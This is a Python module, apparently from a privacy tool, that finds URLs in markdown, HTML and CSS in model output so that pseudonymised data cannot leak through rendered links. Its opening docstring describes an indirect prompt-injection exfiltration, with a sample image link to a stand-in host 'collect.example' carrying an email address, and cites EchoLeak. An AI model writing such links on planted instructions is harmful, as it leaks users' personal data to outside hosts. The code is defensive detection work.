r"""Where in a text are addresses that a page, a chat or a mail program would call, or offer to call?

A model writes what it was told to, by a document too: ``![](https://collect.example/?u=<EMAIL_ADDRESS_1>)``. Whoever
shows the answer calls that address, with the data in it ("EchoLeak", CVE-2025-32711, went this way). So an address is
found as generously as the most generous reader would find it: markdown's links, images and reference definitions,
HTML's attributes, CSS's ``url()``, autolinks with and without a scheme, entities in place of characters. Too long a
region costs a pseudonym that stays a pseudonym; too short a one costs a person's data.

A text is read run by run, where a run has no blank in it: so that a streamed answer is read as the whole would be, and
in linear time. What goes on over blanks (a quoted attribute) is remembered between runs. Pseudonyms are one character,
:data:`MARK`, in a run: how a model wrote them does not matter here.
"""

import html
import re
from collections.abc import Sequence
from dataclasses import dataclass

MARK = "\N{OBJECT REPLACEMENT CHARACTER}"
"""Stands for a pseudonym."""

_OPENER = re.compile(
    r"(?<=[A-Za-z0-9+.\-]{2})\\?:\\?[/\\]{2}"  # a scheme's end, also as markdown escapes it; one letter is a drive's
    rf"|(?<![\w:/\\])[/\\]{{2}}(?=[^\s/\\?\#]*[.。{MARK}])"  # //host
    r"|(?<![\w.])(?i:www)\."
    rf"|(?<=[\w\-{MARK}])\.[^\W\d_][\w-]+(?::[0-9]{{1,5}})?[/?\#\\]"  # host.example/
)
_NAMES = (
    "src|href|srcset|action|formaction|poster|background|ping|cite|longdesc|lowsrc|dynsrc|codebase|classid|usemap"
    "|manifest|xlink:href|imagesrcset"
)
_EVENT = re.compile(
    r"(?P<destination>\]\()"
    r"|(?P<reference>\]:)"
    r"|(?P<css>(?i:url\())"
    r"|(?P<angle><(?=[A-Za-z][A-Za-z0-9+.\-]{1,31}:))"
    rf"|(?P<attribute>(?<![\w-])(?i:{_NAMES})(?=$|=))"
)
_HARMLESS = re.compile(r"[\x00-\x20]*(?:mailto|tel):", re.IGNORECASE)
"""A person writes or calls; nothing is sent by showing it."""
_SCHEME = re.compile(r"[/\\]{2}|[A-Za-z][A-Za-z0-9+.\-]+:")
_PLACE = re.compile(r"[^<>]+")
_PAREN = re.compile(r"\\.|[()]", re.DOTALL)
_SCHEME_CHARS = frozenset("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+.-")
_IS_HOST = re.compile(r"[\w-]+(?:\.[\w-]+)+")

_BLANKS = " \n\t\r\f\v"
"""What stands between runs; with one that is not looked for, a text would be gone through for each of its runs."""
_SIGNS = r"\](?=[(:])|=|u(?i:rl\()|U(?i:rl\()|<(?=[A-Za-z][A-Za-z0-9+.\-]{1,31}:)"
_MARKUP = re.compile(_SIGNS)
_NAME_LAST = re.compile(rf"(?<![\w-])(?:{_NAMES})\Z", re.IGNORECASE)
_LONGEST_NAME = 16
MAY_HOLD = re.compile(
    rf"{_SIGNS}|/(?=[/\\])|\\(?=[/\\])|w(?i:ww\.)|W(?i:ww\.)|\.(?=\w[\w-]+(?::[0-9]+)?[/?\#\\])|&(?=[#a-zA-Z])"
)
"""Whether a text may hold an address at all: most answers do not, and need not be read run by run.

Each way begins with a certain character, so that the search looks for these first: it is ten times as fast.
"""


def plain_until(text: str, start: int) -> int:
    """Up to where ``text`` from ``start`` on means nothing for what follows, if it has no pseudonym; behind a blank."""
    sign = _MARKUP.search(text, start)
    end = len(text) if sign is None else sign.start()
    if sign is None or sign[0] == "=":
        word = text.rstrip() if sign is None else text[start:end].rstrip()
        end = len(word) + (0 if sign is None else start)
        if sign is None and _NAME_LAST.search(word[-_LONGEST_NAME:]) is None:
            end = len(text)
    return max(start, max(text.rfind(blank, start, end) for blank in _BLANKS) + 1)


@dataclass(frozen=True, slots=True)
class Region:
    """Part of a run that is in an address; ``goes_on``: the address began in an earlier run."""

    start: int
    end: int
    goes_on: bool = False


def is_address(text: str) -> bool:
    """Whether there is an address in ``text``."""
    return _OPENER.search(text) is not None


def is_host(text: str) -> bool:
    """Whether ``text`` looks like the name of a host, so that it begins an address if a path stands behind it."""
    return _IS_HOST.fullmatch(text) is not None


def openers(run: str, originals: Sequence[int] = ()) -> list[Region]:
    """Addresses that need no markup: from where one begins to the end of the run, or to an angle bracket.

    Args:
        run: no blanks; pseudonyms are :data:`MARK`.
        originals: where a pseudonym stands for an address, or its beginning; in order.
    """
    if "&" in run and _OPENER.search(html.unescape(run)) and not _OPENER.search(run):
        return [Region(0, len(run))]
    found = []
    rest = iter([*originals, len(run)])
    original = next(rest)
    for place in _PLACE.finditer(run):
        while original < place.start():
            original = next(rest)
        starts = [original] if original < place.end() else []
        opener = _OPENER.search(run, place.start(), place.end())
        if opener is not None:
            starts.append(_beginning(run, opener, place.start()))
        if starts:
            found.append(Region(min(starts), place.end()))
    return found


def _beginning(run: str, opener: re.Match[str], first: int) -> int:
    """Where the address begins that ``opener`` shows: before it stand its scheme or the beginning of its host."""
    start, sign = opener.start(), opener[0][:1]
    if sign in ":\\" and ":" in opener[0]:
        while start > first and run[start - 1] in _SCHEME_CHARS:
            start -= 1
    elif sign == ".":
        while start > first and (run[start - 1].isalnum() or run[start - 1] in f"-._{MARK}"):
            start -= 1
    return start


class AddressScanner:
    """Reads a text from its beginning, run by run; remembers what is open."""

    def __init__(self) -> None:
        self._closer = ""
        """What ends the address that goes on in the next run: a quote, ``)`` or ``>``."""
        self._depth = 0
        self._harmless = False
        self._expected = ""
        """What the next run begins with: a destination, a reference's, an attribute's value, its sign ``=``."""

    @property
    def idle(self) -> bool:
        """Whether nothing is open or expected."""
        return not self._closer and not self._expected

    def blank(self, blank: str) -> None:
        """What stands between two runs; a line's end ends markdown's addresses, not those in quotes."""
        lines = blank.count("\n")
        if lines and self._closer in (")", ">"):
            self._closer = ""
        if lines > 1:
            self._expected = ""

    def run(self, run: str, originals: Sequence[int] = ()) -> list[Region]:
        """The parts of ``run`` that are in addresses, in order, none over another; see :func:`openers`."""
        found: list[Region] = []
        at = self._going_on(run, found) if self._closer else 0
        if self._expected and not at:
            kind, self._expected = self._expected, ""
            at = self._begin(kind, run, 0, found)
        while at < len(run):
            event = _EVENT.search(run, at)
            if event is None:
                break
            at = self._begin(str(event.lastgroup), run, event.end(), found)
        return _together([*found, *openers(run, originals)]) if MARK in run else []

    def _going_on(self, run: str, found: list[Region]) -> int:
        if self._closer == ")" and run[0] in "\"'(":  # a link's title
            self._closer = ""
            return 0
        harmless = self._harmless
        end = self._close(self._closer, run, 0, self._depth)
        if not harmless:
            found.append(Region(0, end, goes_on=True))
        return end

    def _begin(self, kind: str, run: str, at: int, found: list[Region]) -> int:
        """Read what ``kind`` begins at ``at``; returns where to go on."""
        if kind == "attribute":
            if at == len(run):
                self._expected = kind
                return at
            if run[at] != "=":
                return at
            kind, at = "value", at + 1
        if at >= len(run):
            self._expected = kind
            return at
        start, closer = at, ""
        if kind == "value":
            closer = run[at] if run[at] in "\"'" else ""
        elif kind == "css":
            closer = ")"
            start += run[at] in "\"'"
        elif kind in ("destination", "reference"):
            closer = ">" if run[at] == "<" else ")" if kind == "destination" else ""
        if closer and closer != ")":
            start += 1
        self._harmless = _HARMLESS.match(html.unescape(run[start : start + 64])) is not None
        if kind == "reference" and not closer and not _SCHEME.match(run, start):
            return at  # of this very place: nobody else's
        if closer:
            end = self._close(closer, run, start, 0)
        else:
            found_end = run.find(">", start)
            end = len(run) if found_end < 0 else found_end
        if not self._harmless:
            found.append(Region(start, end))
        return max(end, at)

    def _close(self, closer: str, run: str, start: int, depth: int) -> int:
        """Where ``closer`` ends the address from ``start`` on; the end of the run if it does not."""
        self._closer = closer
        end = len(run)
        if closer == ")":
            for paren in _PAREN.finditer(run, start):
                depth += {"(": 1, ")": -1}.get(paren[0], 0)
                if depth < 0:
                    end, self._closer = paren.start(), ""
                    break
            self._depth = depth
        else:
            place = run.find(closer, start)
            if place >= 0:
                end, self._closer = place, ""
        return end


def _together(regions: list[Region]) -> list[Region]:
    """Regions in order; those that overlap are one."""
    joined: list[Region] = []
    for each in sorted(regions, key=lambda region: (region.start, not region.goes_on)):
        last = joined[-1] if joined else None
        if last is not None and each.start < last.end:
            joined[-1] = Region(last.start, max(last.end, each.end), last.goes_on)
        elif each.start < each.end:
            joined.append(each)
    return joined
